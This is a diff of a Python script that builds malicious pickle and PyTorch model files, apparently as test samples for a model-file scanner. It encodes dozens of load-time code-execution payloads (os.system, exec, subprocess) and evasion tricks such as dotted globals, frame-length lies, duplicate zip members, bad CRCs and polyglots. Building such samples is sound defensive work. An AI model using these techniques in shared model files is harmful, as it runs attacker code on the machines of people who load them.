@@ -119,9 +119,17 @@ def raw_samples() -> list[tuple[str, str, str, bytes]]:
             return (os.system, (self.cmd,))
 
     n = "r03_stack_global_proto4.pt"
-    add(n, "os.system pickled by Python's pickler at protocol 4 (FRAME, STACK_GLOBAL, MEMOIZE)", pickle.dumps({"weights": [1.0, 2.0], "x": _R(sh(n))}, protocol=4))
+    add(
+        n,
+        "os.system pickled by Python's pickler at protocol 4 (FRAME, STACK_GLOBAL, MEMOIZE)",
+        pickle.dumps({"weights": [1.0, 2.0], "x": _R(sh(n))}, protocol=4),
+    )
     n = "r04_stack_global_memo.ckpt"
-    add(n, "STACK_GLOBAL assembled from memoized strings", b"\x80\x04" + SB("posix") + b"\x94" + SB("system") + b"\x94" + b"00" + b"h\x00h\x01\x93" + S(sh(n)) + b"\x85R.")
+    add(
+        n,
+        "STACK_GLOBAL assembled from memoized strings",
+        b"\x80\x04" + SB("posix") + b"\x94" + SB("system") + b"\x94" + b"00" + b"h\x00h\x01\x93" + S(sh(n)) + b"\x85R.",
+    )
     n = "r05_exec.pkl"
     add(n, "builtins.exec of Python source", pk(call(G("builtins", "exec"), S(py(n)))))
     n = "r06_eval.pkl"
@@ -129,7 +137,11 @@ def raw_samples() -> list[tuple[str, str, str, bytes]]:
     n = "r07_compile_exec.pkl"
     add(n, "exec(compile(...))", pk(call(G("builtins", "exec"), call(G("builtins", "compile"), S(py(n)), S("<x>"), S("exec")))))
     n = "r08_getattr_import.pkl"
-    add(n, "getattr(__import__('os'), 'system') then a call of the computed value", pk(b"".join([call(call(G("builtins", "getattr"), call(G("builtins", "__import__"), S("os")), S("system")), S(sh(n)))])))
+    add(
+        n,
+        "getattr(__import__('os'), 'system') then a call of the computed value",
+        pk(b"".join([call(call(G("builtins", "getattr"), call(G("builtins", "__import__"), S("os")), S("system")), S(sh(n)))])),
+    )
     n = "r09_subprocess_call.pkl"
     add(n, "subprocess.call with an argv list", pk(call(G("subprocess", "call"), L(S("sh"), S("-c"), S(sh(n))))))
     n = "r10_subprocess_check_output.data"
@@ -143,44 +155,88 @@ def raw_samples() -> list[tuple[str, str, str, bytes]]:
     n = "r14_runpy.pkl"
     add(n, "runpy._run_code execs source", pk(call(G("runpy", "_run_code"), S(py(n)), D())))
     n = "r15_importlib.pkl"
-    add(n, "importlib.import_module + getattr", pk(call(call(G("builtins", "getattr"), call(G("importlib", "import_module"), S("os")), S("system")), S(sh(n)))))
+    add(
+        n,
+        "importlib.import_module + getattr",
+        pk(call(call(G("builtins", "getattr"), call(G("importlib", "import_module"), S("os")), S("system")), S(sh(n)))),
+    )
     n = "r16_pickle_loads_nested.pkl"
     add(n, "pickle.loads of a nested pickle in bytes", pk(call(G("pickle", "loads"), BY(pk(os_system(n)))), proto=3))
     n = "r17_c_pickle_loads.pkl"
     add(n, "_pickle.loads of a nested pickle", pk(call(G("_pickle", "loads"), BY(pk(os_system(n)))), proto=3))
     n = "r18_attrgetter.pkl"
-    add(n, "operator.attrgetter('system')(os)(cmd)", pk(call(call(call(G("operator", "attrgetter"), S("system")), call(G("builtins", "__import__"), S("os"))), S(sh(n)))))
+    add(
+        n,
+        "operator.attrgetter('system')(os)(cmd)",
+        pk(call(call(call(G("operator", "attrgetter"), S("system")), call(G("builtins", "__import__"), S("os"))), S(sh(n)))),
+    )
     n = "r19_methodcaller.pkl"
-    add(n, "operator.methodcaller('system', cmd)(os)", pk(call(call(G("operator", "methodcaller"), S("system"), S(sh(n))), call(G("builtins", "__import__"), S("os")))))
+    add(
+        n,
+        "operator.methodcaller('system', cmd)(os)",
+        pk(call(call(G("operator", "methodcaller"), S("system"), S(sh(n))), call(G("builtins", "__import__"), S("os")))),
+    )
     n = "r20_partial.pkl"
     add(n, "functools.partial(os.system, cmd)()", pk(call(call(G("functools", "partial"), G("os", "system"), S(sh(n))))))
     n = "r21_map_list.pkl"
-    add(n, "list(map(os.system, [cmd])): the callable is only an argument", pk(call(G("builtins", "list"), call(G("builtins", "map"), G("os", "system"), L(S(sh(n)))))))
+    add(
+        n,
+        "list(map(os.system, [cmd])): the callable is only an argument",
+        pk(call(G("builtins", "list"), call(G("builtins", "map"), G("os", "system"), L(S(sh(n)))))),
+    )
     n = "r22_open_computed_path.pkl"
     add(n, "builtins.open on a path computed at load time", pk(call(G("builtins", "open"), marker_path_expr(n), S("w"))))
     n = "r23_shutil_copy.pkl"
     add(n, "shutil.copyfile to a computed path", pk(call(G("shutil", "copyfile"), S(os.devnull), marker_path_expr(n))))
     n = "r24_timeit.pkl"
-    add(n, "timeit.timeit execs a statement", pk(call(G("timeit", "timeit"), S(py(n)), S("pass"), G("time", "perf_counter"), I(1))))
+    add(
+        n,
+        "timeit.timeit execs a statement",
+        pk(call(G("timeit", "timeit"), S(py(n)), S("pass"), G("time", "perf_counter"), I(1))),
+    )
     n = "r25_cprofile.pkl"
     add(n, "cProfile.run execs a statement", pk(call(G("cProfile", "run"), S(py(n)))))
     n = "r26_code_interpreter.pkl"
-    add(n, "code.InteractiveInterpreter().runsource via getattr", pk(call(call(G("builtins", "getattr"), call(G("code", "InteractiveInterpreter")), S("runsource")), S(py(n)))))
+    add(
+        n,
+        "code.InteractiveInterpreter().runsource via getattr",
+        pk(call(call(G("builtins", "getattr"), call(G("code", "InteractiveInterpreter")), S("runsource")), S(py(n)))),
+    )
     n = "r27_py2_builtin_eval.pkl"
-    add(n, "__builtin__.eval (Python-2 name renamed to builtins.eval)", pk(call(G("__builtin__", "eval"), S(f"__import__('os').system({sh(n)!r})"))))
+    add(
+        n,
+        "__builtin__.eval (Python-2 name renamed to builtins.eval)",
+        pk(call(G("__builtin__", "eval"), S(f"__import__('os').system({sh(n)!r})"))),
+    )
     n = "r28_dotted_stack_global.pkl"
-    add(n, "STACK_GLOBAL('argparse', '_os.system'): dotted attribute walk from an innocent module", b"\x80\x04" + SB("argparse") + SB("_os.system") + b"\x93" + S(sh(n)) + b"\x85R.")
+    add(
+        n,
+        "STACK_GLOBAL('argparse', '_os.system'): dotted attribute walk from an innocent module",
+        b"\x80\x04" + SB("argparse") + SB("_os.system") + b"\x93" + S(sh(n)) + b"\x85R.",
+    )
     n = "r29_dotted_global_proto4.pkl"
-    add(n, "GLOBAL 'argparse _os.system' under PROTO 4 (dotted names resolved by attribute walk)", b"\x80\x04" + G("argparse", "_os.system") + S(sh(n)) + b"\x85R.")
+    add(
+        n,
+        "GLOBAL 'argparse _os.system' under PROTO 4 (dotted names resolved by attribute walk)",
+        b"\x80\x04" + G("argparse", "_os.system") + S(sh(n)) + b"\x85R.",
+    )
     n = "r30_numpy_runstring.pkl"
-    add(n, "numpy.testing._private.utils.runstring execs source", pk(call(G("numpy.testing._private.utils", "runstring"), S(py(n)), D())))
+    add(
+        n,
+        "numpy.testing._private.utils.runstring execs source",
+        pk(call(G("numpy.testing._private.utils", "runstring"), S(py(n)), D())),
+    )
     n = "r31_os_popen.pkl"
     add(n, "os.popen", pk(call(G("builtins", "getattr"), call(G("os", "popen"), S(sh(n))), S("read")) + b")R"))
     n = "r32_spawnlp.pkl"
     add(n, "os.spawnlp(P_WAIT, ...)", pk(call(G("os", "spawnlp"), I(0), S("sh"), S("sh"), S("-c"), S(sh(n)))))
     n = "r33_frame_length_lie.pkl"
     body = SB("posix") + SB("system") + b"\x93" + S(sh(n)) + b"\x85R."
-    add(n, "FRAME declares only the first 8 bytes; the payload follows outside any frame", b"\x80\x04\x95" + struct.pack("<Q", 8) + body)
+    add(
+        n,
+        "FRAME declares only the first 8 bytes; the payload follows outside any frame",
+        b"\x80\x04\x95" + struct.pack("<Q", 8) + body,
+    )
     n = "r34_payload_in_state_dict.pth"
     clean = pickle.dumps({"state_dict": {"w": [0.5, 0.25]}, "epoch": 3}, protocol=2)
     add(n, "payload run before an ordinary-looking dict (injected opcodes + POP)", inject(clean, os_system(n)))
@@ -195,9 +251,26 @@ def raw_samples() -> list[tuple[str, str, str, bytes]]:
     add(n, "protocol 1 BINSTRING argument", b"cos\nsystem\n(T" + struct.pack("<i", len(cmd)) + cmd + b"tR.")
     n = "r39_proto5_unicode8.pkl"
     c = sh(n).encode()
-    add(n, "protocol 5 with BINUNICODE8 and STACK_GLOBAL", b"\x80\x05" + SB("os") + SB("system") + b"\x93\x8d" + struct.pack("<Q", len(c)) + c + b"\x85R.")
+    add(
+        n,
+        "protocol 5 with BINUNICODE8 and STACK_GLOBAL",
+        b"\x80\x05" + SB("os") + SB("system") + b"\x93\x8d" + struct.pack("<Q", len(c)) + c + b"\x85R.",
+    )
     n = "r40_newobj_ex_getattr.pkl"
-    add(n, "getattr reached through a memo reference (BINPUT/BINGET)", pk(G("builtins", "getattr") + b"q\x07" + b"0" + b"h\x07" + T(call(G("builtins", "__import__"), S("os")), S("system")) + b"R" + T(S(sh(n))) + b"R"))
+    add(
+        n,
+        "getattr reached through a memo reference (BINPUT/BINGET)",
+        pk(
+            G("builtins", "getattr")
+            + b"q\x07"
+            + b"0"
+            + b"h\x07"
+            + T(call(G("builtins", "__import__"), S("os")), S("system"))
+            + b"R"
+            + T(S(sh(n)))
+            + b"R"
+        ),
+    )
     return out
 
 
@@ -238,7 +311,13 @@ def numpy_samples() -> list[tuple[str, str, str, bytes]]:
 # -- zip tooling ------------------------------------------------------------------------
 
 
-def raw_zip(entries: list[tuple[str, bytes]], *, local_names: dict[int, str] | None = None, bad_crc: set[int] = frozenset(), flags: dict[int, int] | None = None) -> bytes:  # type: ignore[assignment]
+def raw_zip(
+    entries: list[tuple[str, bytes]],
+    *,
+    local_names: dict[int, str] | None = None,
+    bad_crc: set[int] = frozenset(),
+    flags: dict[int, int] | None = None,
+) -> bytes:  # type: ignore[assignment]
     """A stored zip with full control over names, CRCs and flags (duplicates allowed)."""
     out = bytearray()
     central = bytearray()
@@ -250,8 +329,32 @@ def raw_zip(entries: list[tuple[str, bytes]], *, local_names: dict[int, str] | N
         cname = name.encode()
         fl = (flags or {}).get(i, 0)
         off = len(out)
-        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, fl, 0, 0, 0, crc, len(data), len(data), len(lname), 0) + lname + data
-        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, fl, 0, 0, 0, crc, len(data), len(data), len(cname), 0, 0, 0, 0, 0, off) + cname
+        out += (
+            struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, fl, 0, 0, 0, crc, len(data), len(data), len(lname), 0) + lname + data
+        )
+        central += (
+            struct.pack(
+                "<4sHHHHHHIIIHHHHHII",
+                b"PK\x01\x02",
+                20,
+                20,
+                fl,
+                0,
+                0,
+                0,
+                crc,
+                len(data),
+                len(data),
+                len(cname),
+                0,
+                0,
+                0,
+                0,
+                0,
+                off,
+            )
+            + cname
+        )
     cd = len(out)
     out += central
     out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), cd, 0)
@@ -304,7 +407,12 @@ def torch_samples(out_dir: str) -> list[dict]:
     with_data_pkl(inject(clean_pkl, call(G("builtins", "exec"), S(py(n)))), n)
     rec(n, "torch", "torch zip: data.pkl execs source")
     n = "t03_zip_getattr_chain.bin"
-    with_data_pkl(inject(clean_pkl, call(call(G("builtins", "getattr"), call(G("builtins", "__import__"), S("os")), S("system")), S(sh(n)))), n)
+    with_data_pkl(
+        inject(
+            clean_pkl, call(call(G("builtins", "getattr"), call(G("builtins", "__import__"), S("os")), S("system")), S(sh(n)))
+        ),
+        n,
+    )
     rec(n, "torch", "torch zip: getattr chain")
     n = "t04_zip_dotted.pt"
     with_data_pkl(b"\x80\x04" + G("argparse", "_os.system") + S(sh(n)) + b"\x85R" + b"0" + clean_pkl[2:], n)
@@ -323,7 +431,13 @@ def torch_samples(out_dir: str) -> list[dict]:
             break
     rec(n, "torch", "duplicate data.pkl members; torch reads the malicious copy", data)
     n = "t06_zip_case_variant.pt"
-    ents = [((f"{prefix}/DATA.PKL" if name.endswith("/data.pkl") else name), (inject(clean_pkl, os_system(n)) if name.endswith("/data.pkl") else d)) for name, d in members]
+    ents = [
+        (
+            (f"{prefix}/DATA.PKL" if name.endswith("/data.pkl") else name),
+            (inject(clean_pkl, os_system(n)) if name.endswith("/data.pkl") else d),
+        )
+        for name, d in members
+    ]
     rec(n, "torch", "member named DATA.PKL: torch's lookup is case-insensitive", raw_zip(ents))
     n = "t07_zip_bad_crc.pt"
     ents = [(name, (inject(clean_pkl, os_system(n)) if name.endswith("/data.pkl") else d)) for name, d in members]
@@ -331,10 +445,20 @@ def torch_samples(out_dir: str) -> list[dict]:
     rec(n, "torch", "data.pkl with a wrong CRC-32: zipfile refuses it, torch does not check", raw_zip(ents, bad_crc={idx}))
     n = "t08_zip_name_mismatch.pt"
     ents = [(name, (inject(clean_pkl, os_system(n)) if name.endswith("/data.pkl") else d)) for name, d in members]
-    rec(n, "torch", "local header names data.pkl differently from the central directory", raw_zip(ents, local_names={idx: f"{prefix}/notes.txt"}))
+    rec(
+        n,
+        "torch",
+        "local header names data.pkl differently from the central directory",
+        raw_zip(ents, local_names={idx: f"{prefix}/notes.txt"}),
+    )
     n = "t09_polyglot_pickle_zip.pt"
     head = inject(pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2), os_system(n))
-    rec(n, "torch", "pickle head + benign zip tail: torch.load reads the head as a legacy stream, zip tools the tail", head + clean_zip)
+    rec(
+        n,
+        "torch",
+        "pickle head + benign zip tail: torch.load reads the head as a legacy stream, zip tools the tail",
+        head + clean_zip,
+    )
     # torch.storage._load_from_bytes (allowlisted by torchless) reaching a malicious legacy stream
     n = "t10_load_from_bytes.pt"
     lb = io.BytesIO()
@@ -356,13 +480,23 @@ def torch_samples(out_dir: str) -> list[dict]:
     for k in range(5):
         n = f"l0{k + 1}_legacy_pickle{k + 1}.pt"
         part = legacy[bounds[k] : bounds[k + 1]]
-        rec(n, "torch", f"legacy stream format: payload in pickle #{k + 1} of 5", legacy[: bounds[k]] + inject(part, os_system(n)) + legacy[bounds[k + 1] :])
+        rec(
+            n,
+            "torch",
+            f"legacy stream format: payload in pickle #{k + 1} of 5",
+            legacy[: bounds[k]] + inject(part, os_system(n)) + legacy[bounds[k + 1] :],
+        )
 
     # legacy tar layout
     def tar_bytes(storages: bytes, tensors: bytes, obj: bytes) -> bytes:
         b = io.BytesIO()
         with tarfile.open(fileobj=b, mode="w", format=tarfile.PAX_FORMAT) as tf:
-            for name, data in (("sys_info", pickle.dumps({"little_endian": True}, protocol=2)), ("storages", storages), ("tensors", tensors), ("pickle", obj)):
+            for name, data in (
+                ("sys_info", pickle.dumps({"little_endian": True}, protocol=2)),
+                ("storages", storages),
+                ("tensors", tensors),
+                ("pickle", obj),
+            ):
                 ti = tarfile.TarInfo(name)
                 ti.size = len(data)
                 tf.addfile(ti, io.BytesIO(data))
@@ -380,7 +514,7 @@ def torch_samples(out_dir: str) -> list[dict]:
     return man
 
 
-_TS_SRC = '''
+_TS_SRC = """
 import torch
 
 
@@ -400,7 +534,7 @@ class Evil(torch.nn.Module):
     def __setstate__(self, s: tuple[int, bool]):
         self.training = s[1]
         self.x = s[0] + torch.from_file(MARKER, True, 1).numel()
-'''
+"""
 
 
 def torchscript_samples(out_dir: str) -> list[dict]:
@@ -420,7 +554,13 @@ def torchscript_samples(out_dir: str) -> list[dict]:
         mod = importlib.util.module_from_spec(spec)  # type: ignore[arg-type]
         spec.loader.exec_module(mod)  # type: ignore[union-attr]
         torch.jit.save(torch.jit.script(mod.Evil()), os.path.join(out_dir, n))
-    return [{"name": n, "loader": "jit", "technique": "TorchScript __setstate__ calls torch.from_file (creates a file) at torch.jit.load; no Python global in any pickle"}]
+    return [
+        {
+            "name": n,
+            "loader": "jit",
+            "technique": "TorchScript __setstate__ calls torch.from_file (creates a file) at torch.jit.load; no Python global in any pickle",
+        }
+    ]
 
 
 def pt2_samples(out_dir: str) -> list[dict]:
@@ -454,7 +594,9 @@ def pt2_samples(out_dir: str) -> list[dict]:
         rel = name.split("/", 1)[1]
         w.write(rel, evil.getvalue() if rel.startswith("data/sample_inputs/") else data)
     w.close()
-    return [{"name": n, "loader": "export", "technique": ".pt2 sample inputs: torch.export.load retries them with weights_only=False"}]
+    return [
+        {"name": n, "loader": "export", "technique": ".pt2 sample inputs: torch.export.load retries them with weights_only=False"}
+    ]
 
 
 def dcp_samples(out_dir: str) -> list[dict]:
